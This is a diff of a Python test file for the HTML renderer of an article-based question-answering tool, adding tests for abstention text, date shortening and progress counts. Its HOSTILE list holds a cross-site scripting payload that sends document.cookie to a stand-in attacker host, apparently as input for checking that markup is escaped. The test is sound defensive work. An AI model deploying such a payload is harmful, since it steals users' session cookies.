@@ -56,7 +56,9 @@ ANSWER = Answer(
     timings={"total_ms": 2140.0},
     complete=True,
 )
-ABSTENTION = replace(ANSWER, answered=False, statements=(), citations=(), text="No article says it.")
+ABSTENTION = replace(
+    ANSWER, answered=False, statements=(), citations=(), text="No article says it.\nNearest:\n- a list in words"
+)
 
 HOSTILE = [
     "<script>fetch('https://evil.example/'+document.cookie)</script>",
@@ -247,6 +249,22 @@ def test_an_abstention_looks_different_and_offers_the_nearest_articles():
     assert 'class="abstained"' not in render.transcript([Turn("q", ANSWER)])
 
 
+def test_an_abstention_lists_the_nearest_articles_once_and_as_links():
+    assert "a list in words" not in render.transcript([Turn("q", ABSTENTION)])
+
+
+def test_without_a_model_nothing_is_said_to_be_missing():
+    unread = replace(ABSTENTION, text="No chat model is running.", models={"llm": "", "embedding": "e5"})
+    html = render.transcript([Turn("q", unread)])
+    assert "Not in the articles" not in html
+    assert "#document-kabar.txt" in html
+
+
+def test_a_statement_that_is_just_a_date_has_no_second_one():
+    html = render.transcript([Turn("q", replace(ANSWER, statements=(replace(STATEMENT, text="17 December 2017"),)))])
+    assert html.count("17 December 2017") == 1
+
+
 def test_an_abstention_still_shows_what_was_read_but_not_confirmed():
     doubtful = Statement("Oil cost 60 dollars.", supported=False, reason="no article has that number")
     html = render.transcript([Turn("q", replace(ABSTENTION, statements=(doubtful,)))])
@@ -335,12 +353,22 @@ def test_dates_are_written_as_precisely_as_they_are_known(iso, language, words):
     assert render.date_in_words(iso, language) == words
 
 
+def test_short_dates_cut_the_month_and_nothing_else():
+    assert render.date_in_words("2019-08-29", "id", short=True) == "29 Agu 2019"
+    assert render.date_in_words("last Sunday", "en", short=True) == "last Sunday"
+
+
 @pytest.mark.parametrize(
-    ("done", "total", "words"),
-    [(3, 5, "3 of 5 articles read"), (5, 5, "5 articles"), (1, 1, "1 article"), (0, 0, "0 articles")],
+    ("progress", "words"),
+    [
+        ((5, 3, 7), "5 articles · 3 of 7 read"),
+        ((5, 7, 7), "5 articles"),
+        ((1, 1, 1), "1 article"),
+        ((12_000, 0, 0), "12,000 articles"),
+    ],
 )
-def test_progress_is_counted_while_there_is_some(done, total, words):
-    assert Markup(render.progress(done, total)).text == words
+def test_reading_ahead_is_counted_until_it_is_done(progress, words):
+    assert Markup(render.progress(*progress)).text == words
 
 
 def test_both_languages_have_every_label():
